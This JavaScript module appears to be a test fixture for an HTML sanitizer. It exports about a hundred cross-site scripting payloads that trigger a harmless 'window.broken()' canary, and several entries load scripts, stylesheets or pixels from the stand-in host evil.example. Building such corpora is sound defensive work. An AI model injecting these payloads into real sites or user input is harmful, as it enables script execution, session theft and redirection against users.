// Strings that have run scripts in pages that trusted them (docs/status.md S5).
// Each calls `window.broken()`, or would fetch from another origin, if a browser ever took it for markup.

const BREAK = 'window.broken()';
const ELEMENTS = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'iframe', 'object', 'embed', 'marquee', 'select', 'textarea', 'keygen', 'math', 'link', 'style'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpageshow', 'onstart', 'onbegin'];
const SCRIPTS = [
  `<script>${BREAK}</script>`,
  `<SCRIPT>${BREAK}</SCRIPT>`,
  `<scr<script>ipt>${BREAK}</script>`,
  `<script/x>${BREAK}</script>`,
  `</title><script>${BREAK}</script>`,
  `</textarea><script>${BREAK}</script>`,
  `--><script>${BREAK}</script>`,
  `]]><script>${BREAK}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${BREAK}</script>`,
  `<noscript><p title="</noscript><script>${BREAK}</script>">`,
  `<svg><script>${BREAK}</script></svg>`,
  `<svg><script xlink:href=data:,${BREAK} />`,
  `<math><mtext><script>${BREAK}</script>`,
  `<template><script>${BREAK}</script></template>`,
];
const LINKS = [
  `<a href="javascript:${BREAK}">x</a>`,
  `<a href="java\tscript:${BREAK}">x</a>`,
  `<a href="&#106;avascript:${BREAK}">x</a>`,
  `<a href='data:text/html,<script>${BREAK}</script>'>x</a>`,
  `<form action=javascript:${BREAK}><button>x</button></form>`,
  `<button formaction=javascript:${BREAK}>x</button>`,
  `<iframe srcdoc="<script>parent.broken()</script>">`,
  `<iframe src="javascript:parent.broken()">`,
  `<object data="javascript:${BREAK}">`,
  `<embed src="javascript:${BREAK}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import url(//evil.example/x.css)</style>`,
  `<div style="background:url(//evil.example/x.png)">`,
  `<img src=//evil.example/pixel.png>`,
];
const CONTEXTS = [
  `"><img src=x onerror=${BREAK}>`,
  `'><img src=x onerror=${BREAK}>`,
  `" onmouseover=${BREAK} x="`,
  `' autofocus onfocus=${BREAK} x='`,
  `\`;${BREAK}//`,
  `';${BREAK}//`,
  `";${BREAK}//`,
  `\${${BREAK}}`,
  `{{constructor.constructor('${BREAK}')()}}`,
  `{{${BREAK}}}`,
  `<%= ${BREAK} %>`,
  `#{${BREAK}}`,
  `javascript:${BREAK}`,
  `&lt;script&gt;${BREAK}&lt;/script&gt;`,
  `\\u003cscript\\u003e${BREAK}\\u003c/script\\u003e`,
  `%3Cscript%3E${BREAK}%3C/script%3E`,
  `\uff1cscript\uff1e${BREAK}\uff1c/script\uff1e`,
  `<<img src=x onerror=${BREAK}>`,
  `<img src=x onerror=${BREAK}`,
  `<img/src=x/onerror=${BREAK}>`,
  `<img src=x onerror="${BREAK}"`,
  `<a/onclick=${BREAK}>x`,
  `<x onclick=${BREAK}>x`,
  `<svg/onload=${BREAK}>`,
  `<!--<img src="--><img src=x onerror=${BREAK}//">`,
  `<div id=app></div>`,
  `<form id=test><input name=attributes>`,
  `<img name=body><img name=cookie>`,
];

/** About a hundred strings, all different. */
export const CORPUS = [
  ...SCRIPTS,
  ...LINKS,
  ...CONTEXTS,
  ...ELEMENTS.map((element) => `<${element} src=x href=x onerror=${BREAK} onload=${BREAK} autofocus onfocus=${BREAK}>`),
  ...EVENTS.flatMap((event) => [`<img src=x ${event}=${BREAK}>`, `<svg><animate ${event}=${BREAK} attributeName=x dur=1s>`]),
];
